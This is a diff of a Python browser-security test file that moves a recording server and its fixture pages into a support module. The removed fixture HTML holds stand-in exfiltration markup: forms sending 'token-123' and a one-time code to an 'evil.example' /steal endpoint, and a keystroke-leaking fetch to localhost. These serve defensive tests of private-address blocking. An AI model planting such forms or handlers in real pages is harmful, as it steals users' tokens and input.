@@ -10,14 +10,11 @@ get: the page's word counts for nothing.
 
 from __future__ import annotations
 
-import threading
-from collections.abc import AsyncIterator, Iterator
-from http.server import BaseHTTPRequestHandler
+from collections.abc import Iterator
 from pathlib import Path
-from typing import Any, ClassVar
+from typing import Any
 
 import pytest
-import pytest_asyncio
 from mcp.client import Client
 from playwright.async_api import Browser as PWBrowser
 
@@ -27,7 +24,7 @@ from harness.fake_openai import FakeOpenAI, completion, latest_elements
 from harness.fake_openai import tool_call as call
 from harness.mcp_driver import Person, ref
 from subterminator.browser.discovery import find_chromium
-from subterminator.browser.playwright_browser import LaunchOptions, PlaywrightBrowser
+from subterminator.browser.playwright_browser import PlaywrightBrowser
 from subterminator.browser.reach import Reach, is_private_host, resolves_private
 from subterminator.mcp.server import build_server
 from subterminator.mcp.session import McpOptions
@@ -38,9 +35,13 @@ from subterminator.simulator.server import LocalServer
 from subterminator.stack import Reply, ToolStack
 from subterminator.stack.reach import build_reach
 from subterminator.tools.server import BrowserToolServer
-from tests.browser_helpers import by_name
-from tests.cli_helpers import on_terminal
-from tests.test_mcp import shared_chromium
+from tests.support.browser_helpers import by_name
+from tests.support.cli_helpers import on_terminal
+from tests.support.mcp_helpers import shared_chromium
+from tests.support.reach_site import LOCAL_PORT, SERVICE_HITS, SERVICE_PAGES, _Recording
+from tests.support.reach_site import (
+    chromium as chromium,
+)  # the module's Chromium (names -> 127.0.0.1)
 
 # -- the rule, on its own ------------------------------------------------------------------
 
@@ -164,66 +165,6 @@ def test_subresources_to_local_addresses_are_refused_from_anywhere_but_the_start
 # -- in a real browser -----------------------------------------------------------------------
 
 
-class _Recording(BaseHTTPRequestHandler):
-    pages: ClassVar[dict[str, str]] = {}
-    hits: ClassVar[list[str]] = []
-    lock: ClassVar[threading.Lock] = threading.Lock()
-
-    def log_message(self, format: str, *args: object) -> None:
-        pass
-
-    def _serve(self) -> None:
-        length = int(self.headers.get("Content-Length") or 0)
-        body = self.rfile.read(length).decode() if length else ""
-        with self.lock:
-            self.hits.append(f"{self.command} {self.path} {body}".strip())
-        path = self.path.split("?")[0]
-        if path.startswith("/go/"):  # /go/<port>/<path>: a redirect to that local port
-            _, _, port, rest = path.split("/", 3)
-            target = f"http://{'127.0.0.1' if port.isdigit() else port}"
-            target += f":{port}/{rest}" if port.isdigit() else f"/{rest}"
-            self.send_response(302)
-            self.send_header("Location", target)
-            self.end_headers()
-            return
-        page = self.pages.get(path, "<!doctype html><title>ok</title><h1>A page</h1>")
-        page = page.replace("{{LOCAL}}", str(LOCAL_PORT[0])).replace(
-            "{{EVIL}}", f"http://evil.example:{LOCAL_PORT[0]}"
-        )
-        data = page.encode()
-        self.send_response(200)
-        self.send_header("Content-Type", "text/html; charset=utf-8")
-        self.send_header("Content-Length", str(len(data)))
-        self.end_headers()
-        self.wfile.write(data)
-
-    do_GET = do_POST = _serve
-
-
-LOCAL_PORT = [0]
-SERVICE_HITS: list[str] = []
-
-# In several languages: what decides is where a control goes, never what it says.
-SERVICE_PAGES = {
-    "/account": """<!doctype html><html lang="ka"><head><title>ანგარიში</title></head><body>
-<h1>ანგარიში</h1>
-<a href="http://127.0.0.1:{{LOCAL}}/reset-token">პაროლის აღდგენა</a>
-<a href="/go/{{LOCAL}}/one-time-code">ჩემი კოდი</a>
-<a href="{{EVIL}}/landing">Tovuti ya msaada</a>
-<a href="{{EVIL}}/other">อีกหน้าหนึ่ง</a>
-<form action="{{EVIL}}/collect" method="get"><input name="q" value="token-123">
-<button>Tafuta</button></form>
-<form action="{{EVIL}}/steal" method="post"><input name="code" value="654321">
-<button>Wyślij</button></form>
-<button onclick="window.open('http://127.0.0.1:{{LOCAL}}/popup')">Fungua dirisha</button>
-<input aria-label="Jina" oninput="fetch('http://127.0.0.1:{{LOCAL}}/keys?v='+this.value)">
-</body></html>""",
-    "/framed": """<!doctype html><title>Frames</title><h1>Frames</h1>
-<iframe src="http://127.0.0.1:{{LOCAL}}/in-frame"></iframe>
-<iframe src="/go/{{LOCAL}}/frame-hop"></iframe>""",
-}
-
-
 @pytest.fixture(scope="module")
 def servers() -> Iterator[tuple[LocalServer, type[_Recording]]]:
     local = type("Local", (_Recording,), {"pages": {}, "hits": []})
@@ -231,14 +172,6 @@ def servers() -> Iterator[tuple[LocalServer, type[_Recording]]]:
     with LocalServer(local) as local_server, LocalServer(service) as service_server:
         LOCAL_PORT[0] = int(local_server.base_url.rsplit(":", 1)[1])
         yield service_server, local
-
-
-@pytest_asyncio.fixture(loop_scope="session", scope="module")
-async def chromium() -> AsyncIterator[PlaywrightBrowser]:
-    # every name resolves to this machine: evil.example is "another site", and nothing leaves
-    options = LaunchOptions(extra_args=("--host-resolver-rules=MAP * 127.0.0.1",))
-    async with await PlaywrightBrowser.launch(options) as browser:
-        yield browser
 
 
 class Run:
